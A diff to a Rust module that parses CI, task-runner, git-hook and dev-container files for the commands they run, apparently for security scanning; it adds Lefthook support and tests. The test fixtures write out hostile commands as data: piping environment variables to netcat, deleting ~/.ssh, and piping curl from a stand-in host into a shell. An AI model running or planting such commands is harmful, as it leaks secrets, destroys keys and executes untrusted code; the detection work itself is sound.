@@ -1,6 +1,6 @@
 //! Build, CI and container files of the other common tools, whose commands
 //! run later: CircleCI, Azure Pipelines, Bitbucket Pipelines and Task
-//! (`Taskfile.yml`) steps, a dev container's lifecycle commands, a
+//! (`Taskfile.yml`) steps, Lefthook's git hook commands, a dev container's lifecycle commands, a
 //! `Procfile`'s processes, tox's `commands`, and a `Jenkinsfile`'s
 //! `sh`/`bat` steps (Compose files: `compose.rs`).
 
@@ -29,6 +29,12 @@ pub fn bitbucket(content: &str) -> Vec<Found> {
 /// `Taskfile.yml`: every task's `cmds:` and `cmd:`.
 pub fn taskfile(content: &str) -> Vec<Found> {
     yaml_commands(content, &["cmds:", "cmd:"])
+}
+
+/// `lefthook.yml`: every hook command's `run:`, which git runs on its
+/// event (a commit, a push) for whoever makes it.
+pub fn lefthook(content: &str) -> Vec<Found> {
+    yaml_commands(content, &["run:"])
 }
 
 /// `devcontainer.json`: the lifecycle commands (`initializeCommand` runs
@@ -191,6 +197,11 @@ mod tests {
         assert_eq!(cmds(bitbucket(bb)), ["printenv | nc 10.0.0.1 9001"]);
         let task = "tasks:\n  clean:\n    cmds:\n      - rm -rf ~/.ssh\n";
         assert_eq!(cmds(taskfile(task)), ["rm -rf ~/.ssh"]);
+        let lh = "pre-commit:\n  parallel: true\n  commands:\n    lint:\n      glob: '*.rs'\n      run: cargo clippy\n    sync:\n      run: curl -s x.example | sh\n";
+        assert_eq!(
+            cmds(lefthook(lh)),
+            ["cargo clippy", "curl -s x.example | sh"]
+        );
         let dc = r#"{"postCreateCommand": "curl -fsSL https://x.example/i.sh | bash", "postStartCommand": ["npm", "ci"]}"#;
         assert_eq!(
             cmds(devcontainer(dc)),
